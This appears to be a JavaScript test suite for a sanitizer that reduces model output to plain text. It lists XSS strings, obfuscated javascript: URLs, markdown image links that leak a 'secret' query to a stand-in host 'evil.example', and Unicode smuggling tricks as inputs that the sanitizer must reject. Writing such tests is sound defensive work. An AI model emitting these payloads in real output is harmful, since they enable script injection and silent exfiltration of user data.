import { isPlainText, plainText } from './model-output-text.js';

describe('a plain text', () => {
  it.each([
    'See <b>this</b>.',
    '<img src=//evil.example onerror=alert(1)>',
    '<<b>img src=//evil.example onerror=alert(1)>',
    '<scr<script>ipt>',
    '![x](https://evil.example/?q=secret)',
    '!![[a](b)](//evil.example/?q=secret)',
    '[a\nb](//evil.example)',
    '[a](/evil)',
    '![x][1]\n\n[1]: //evil.example/?q=secret',
    '[x]\n\n[x]: /evil',
    'https://evil.example/?q=secret',
    'HTTPS://evil.example',
    'https:evil.example',
    '//evil.example/?q=secret',
    'custom+scheme://evil.example',
    // oxlint-disable-next-line no-script-url
    'javascript:alert(1)',
    'java\u200Bscript:alert(1)',
    'java\u00ADscript:alert(1)',
    'java\u200Dscript:alert(1)',
    'data:text/html,x',
    'mailto:thief@evil.example?body=secret',
    'tel:+4930901820',
    'www.evil.example/?q=secret',
    'https&colon;//evil.example',
    'javascript&#58;alert(1)',
    '&lt;img src=x&gt;',
    '&ltimg src=x',
    'Wine \u202Egnp.exe',
    'Wine\u061C',
    'Wi\u00ADne',
    'Wine\u{E0041}\u{E0042}\u{E007F}',
    'Wine\u{E0000}',
    'Wine\u{E0100}',
    'Wine\uFE0F',
    'Wine\u2066',
    'Wine\u0000',
    'Wine\uE000',
    'Wine\u2028more',
  ])('is not %j', (text) => {
    expect(isPlainText(text)).toBe(false);
    const plain = plainText(text);
    expect(isPlainText(plain)).toBe(true);
    expect(plain).not.toMatch(
      /[<>\u00AD\u061C\u200B-\u200F\u2028-\u202E\u2066\u{E0000}-\u{E0FFF}]|\]\(|\]\[|\]:|\/\/|evil\.example\/|(script|data|mailto):/u,
    );
  });

  it.each([
    'A white wine for long evenings.',
    'Côte de Blaye, 12.5 % vol.; 1/2 litre, and/or 0.75 l.\n\tServe at 8 °C: chilled!',
    'Made by Marks & Spencer, R&B and AT&T [sic] (1: first, 2: second).',
    'Time: 10:30. Data: none. Note:this.',
    'می\u200Cخواهم',
    'क्\u200Dष',
    '👩\u200D🍳 and 👩🏽\u200D❤️\u200D👩🏽 cook 1️⃣ soup ☕️',
    '(ノ◕ヮ◕)ノ*:・゚✧',
  ])('is %j', (text) => {
    expect(isPlainText(text)).toBe(true);
    expect(plainText(text)).toBe(text);
  });

  it('keeps what stands around markup and links', () => {
    expect(plainText(' if x<y then\nx>z, see [here](https://evil.example/?q=s), please ')).toBe(
      'if x‹y then\nx›z, see [here] ([link removed]), please',
    );
    expect(plainText('a\r\nb\rc')).toBe('a\nb\nc');
  });

  it.each(['[', ']', '](', '<', '![', '&', '//', 'a.', 'www.', '] ', '\u200D', 'a:', '&l', '\uFE0F'])(
    'of a million times %j is bounded',
    (piece) => {
      const text = piece.repeat(1_000_000);
      expect(isPlainText(text)).toBe(false);
      // `[link removed]` can be longer than what it replaces.
      expect(plainText(text).length).toBeLessThan(32_768 * 8);
    },
  );
});
